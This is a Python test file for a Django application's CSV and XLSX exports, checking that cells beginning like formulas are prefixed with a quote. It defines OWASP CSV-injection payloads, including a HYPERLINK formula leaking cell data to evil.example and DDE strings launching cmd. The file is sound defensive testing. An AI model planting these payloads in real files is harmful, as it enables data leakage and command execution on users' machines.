"""Formula-safe cells (OWASP "CSV Injection"): the one function every CSV and XLSX writer uses, and
each writer fed a household whose name, first name and address are formulas."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from directory.exports import safe_cell, safe_row, xlsx_row
from indicators import counting
from indicators import services as indicators
from letters.models import ListKind
from letters.services import weekly_lists
from tests.factories import TerritoryFactory
from tests.letters.factories import payment_order_on
from tests.procedure.factories import ProcedureFactory

# The payloads of OWASP's "CSV Injection" page, one per dangerous first character.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
HARMLESS = ["Martin", "12 rue de la Paix", "", "L'Étang-Vergy", "5 = 5", " =espace d'abord"]

WEEK = datetime.date(2026, 11, 9)  # Monday of 2026-W46


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_text_beginning_like_a_formula_is_prefixed_with_a_quote(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_as_they_are(text):
    assert safe_cell(text) == text


def test_numbers_dates_and_empty_cells_keep_their_type_even_negative():
    values = [-12, Decimal("-3.50"), -0.5, datetime.date(2026, 1, 2), None]
    assert safe_row(values) == values


def xlsx_values(cells):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("test")
    sheet.append(xlsx_row(sheet, cells))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue())).active[1]


def test_xlsx_text_cells_are_text_never_formulas_nor_error_codes():
    row = xlsx_values([*OWASP_PAYLOADS, "#N/A", "=1"])
    assert [cell.data_type for cell in row] == ["s"] * (len(OWASP_PAYLOADS) + 2)
    # (XML reads a carriage return back as a line feed: the quote in front is what matters)
    values = [cell.value.replace("\n", "\r") for cell in row]
    assert values == ["'" + p for p in OWASP_PAYLOADS] + ["#N/A", "'=1"]


def test_xlsx_numbers_and_dates_are_typed():
    row = xlsx_values([Decimal("1234.50"), None, 3, datetime.date(2026, 11, 15)])
    assert [cell.data_type for cell in row] == ["n", "n", "n", "d"]
    assert row[0].value == 1234.5 and row[3].value.date() == datetime.date(2026, 11, 15)
    assert row[1].value is None


# ---------------------------------------------------------------- every writer


def hostile(procedure):
    """The household's holder and address written by an attacker in an imported file."""
    procedure.household.persons.update(last_name=OWASP_PAYLOADS[0], first_name=OWASP_PAYLOADS[2])
    procedure.lease.address = OWASP_PAYLOADS[4]
    procedure.lease.save()
    procedure.household.label = OWASP_PAYLOADS[1]
    procedure.household.save()
    return procedure


def no_formula_in_csv(content: str, delimiter):
    cells = [cell for row in csv.reader(io.StringIO(content), delimiter=delimiter) for cell in row]
    assert cells, "the file has no cell"
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def no_formula_in_xlsx(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return [cell.coordinate for cell in cells if cell.data_type == "f" or str(cell.value or "")[:1] == "="]


@pytest.mark.django_db
def test_caf_weekly_list_csv_and_xlsx_hold_no_formula():
    hostile(payment_order_on(datetime.date(2026, 11, 12), debt="980.25"))

    rows, files = weekly_lists.files(ListKind.CAF, WEEK)

    assert no_formula_in_csv(files["csv"].decode("utf-8-sig"), ";") == []
    assert no_formula_in_xlsx(files["xlsx"]) == []
    sheet = load_workbook(io.BytesIO(files["xlsx"])).active
    header = [cell.value for cell in sheet[1]]
    line = dict(zip(header, sheet[2], strict=True))
    assert line["nom"].value == "'" + OWASP_PAYLOADS[0]
    assert line["adresse"].value == "'" + OWASP_PAYLOADS[4]
    assert (line["dette"].data_type, line["dette"].value) == ("n", 980.25)
    assert line["date_commandement"].value.date() == datetime.date(2026, 11, 12)


@pytest.mark.django_db
def test_procedures_export_holds_no_formula(secretariat_client):
    hostile(ProcedureFactory())

    response = secretariat_client.get(reverse("procedure:list_export"))

    content = b"".join(response.streaming_content)
    assert no_formula_in_xlsx(content) == []
    row = [cell.value for cell in load_workbook(io.BytesIO(content)).active[2]]
    assert "'" + OWASP_PAYLOADS[1] in row and "'" + OWASP_PAYLOADS[4] in row


@pytest.mark.django_db
def test_indicators_export_holds_no_formula_even_from_a_territory_code():
    scope = counting.Scope(territory=TerritoryFactory(code="=1+2"))

    assert no_formula_in_csv(indicators.export_csv([2026], scope), ",") == []
    assert no_formula_in_xlsx(indicators.export_xlsx([2026], scope)) == []
